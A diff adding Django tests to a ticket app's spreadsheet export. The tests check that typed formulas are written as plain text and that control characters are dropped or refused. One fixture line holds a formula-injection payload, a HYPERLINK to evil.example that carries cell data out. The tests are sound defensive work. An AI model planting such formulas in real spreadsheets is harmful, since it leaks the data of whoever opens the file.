@@ -81,3 +81,49 @@ def test_toilet_export_masks_phones(client, done, hj_officer):
     response = client.get(reverse("toilet_export"), {"state": "done"})
     rows = read(io.BytesIO(b"".join(response.streaming_content)))
     assert "138****1234" in rows[1]
+
+
+# --- what people typed is data, never a formula, and never breaks the file -------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+
+
+def test_a_formula_typed_as_text_is_written_as_text(client, task_force, draft):
+    RectificationTicket.objects.filter(pk=draft.pk).update(description=HOSTILE)
+    client.force_login(task_force)
+
+    response = client.get("/tickets/export.xlsx")
+
+    assert response.status_code == 200
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
+    hostile = [cell for cell in cells if cell.value == HOSTILE]
+    assert hostile and all(cell.data_type == "s" for cell in hostile)  # a string, not "f"
+    assert not any(cell.data_type == "f" for cell in cells)
+
+
+def test_a_control_character_in_old_data_does_not_break_the_export(client, task_force, draft):
+    # Saved before forms refused them (or by an import): dropped from the cell, not a 500.
+    RectificationTicket.objects.filter(pk=draft.pk).update(description="河道\x0b垃圾\x1b堆放")
+    client.force_login(task_force)
+
+    response = client.get("/tickets/export.xlsx")
+
+    assert response.status_code == 200
+    rows = read(io.BytesIO(b"".join(response.streaming_content)))
+    assert any(
+        "河道垃圾堆放" in (value or "") for row in rows for value in row if isinstance(value, str)
+    )
+
+
+def test_a_control_character_typed_into_a_form_is_refused_with_a_message(
+    client, inspector, huji, huji_village
+):
+    client.force_login(inspector)
+    response = client.post(
+        "/tickets/new/",
+        {"town": huji.code, "village": huji_village.code, "description": "岸边\x1b垃圾"},
+    )
+    assert response.status_code == 400
+    assert "U+001B" in response.content.decode()
+    assert not RectificationTicket.objects.exists()
